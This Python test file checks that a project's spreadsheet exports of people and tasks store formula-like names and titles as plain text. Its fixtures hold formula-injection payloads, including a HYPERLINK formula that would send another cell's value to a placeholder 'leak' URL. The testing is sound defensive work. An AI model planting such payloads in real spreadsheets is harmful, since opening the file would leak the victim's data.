"""Issue 16, point 4: text that a spreadsheet would evaluate (=, +, -, @, tab, CR first)
comes back from every import export as that text, never as a formula."""

from __future__ import annotations

import io
from typing import Any

import pytest
from openpyxl import load_workbook

from tests.conftest import Cast
from tests.work.conftest import Work, build_work
from thuocdo.imports.people import PeopleKind
from thuocdo.imports.tasks import TaskKind
from thuocdo.imports.workbook import VALUES_SHEET, write_workbook
from thuocdo.org.models import Person
from thuocdo.work.models import Task

LINK = '=HYPERLINK("http://x?leak="&B2,"Bấm")'
NAMES = {"staff_x": "+cmd", "staff_y": "@SUM(A1)", "staff_x1": "\tTab", "head_y": LINK}


@pytest.fixture
def work(cast: Cast) -> Work:
    return build_work(cast)


def rename(cast: Cast) -> None:
    for who, name in NAMES.items():
        Person.objects.filter(pk=cast.person(who).pk).update(full_name=name)


def text_cells(content: bytes, sheet: str) -> dict[Any, str]:
    """Every cell of `sheet` whose value is one of the risky texts → its data type."""
    book = load_workbook(io.BytesIO(content))
    risky = {*NAMES.values(), "-1 lỗi"}
    return {
        cell.value: cell.data_type
        for row in book[sheet].iter_rows()
        for cell in row
        if cell.value in risky
    }


def test_the_people_export_writes_names_as_text(cast: Cast) -> None:
    rename(cast)
    kind = PeopleKind()
    content = write_workbook(kind, cast.agency_a, kind.export_rows(cast.agency_a))
    assert text_cells(content, kind.sheet_name) == dict.fromkeys(NAMES.values(), "s")


def test_the_tasks_export_writes_titles_and_names_as_text(cast: Cast, work: Work) -> None:
    rename(cast)
    task = work.assign(title="Soạn thảo")
    other = work.assign(title="Khác")
    Task.objects.filter(pk=task.pk).update(title=LINK)
    Task.objects.filter(pk=other.pk).update(title="-1 lỗi")
    kind = TaskKind()
    content = write_workbook(kind, cast.agency_a, kind.export_rows(cast.agency_a))
    assert text_cells(content, kind.sheet_name) == {LINK: "s", "-1 lỗi": "s"}
    # The allowed-values sheet lists the people's names beside their codes.
    assert text_cells(content, VALUES_SHEET) == dict.fromkeys(NAMES.values(), "s")
